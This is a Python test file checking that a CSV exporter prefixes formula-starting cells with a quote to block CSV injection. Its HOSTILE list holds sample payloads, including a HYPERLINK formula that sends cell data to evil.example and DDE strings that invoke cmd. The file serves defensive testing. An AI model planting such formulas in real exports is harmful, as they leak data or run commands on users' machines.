"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

from seatbridge.csvexport import csv_lines, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_start_is_written_as_text() -> None:
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    for harmless in ("Dupont", "lea@bijou-sa.fr", " =1", "", '{"a": "=1"}', 42, None):
        assert neutralise(harmless) == harmless


def test_csv_lines_read_back_with_the_quote() -> None:
    text = "".join(csv_lines(["name", "n"], [(value, 1) for value in HOSTILE]))
    assert text.startswith("\ufeffname,n\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert [row[1] for row in rows[1:]] == ["1"] * len(HOSTILE)
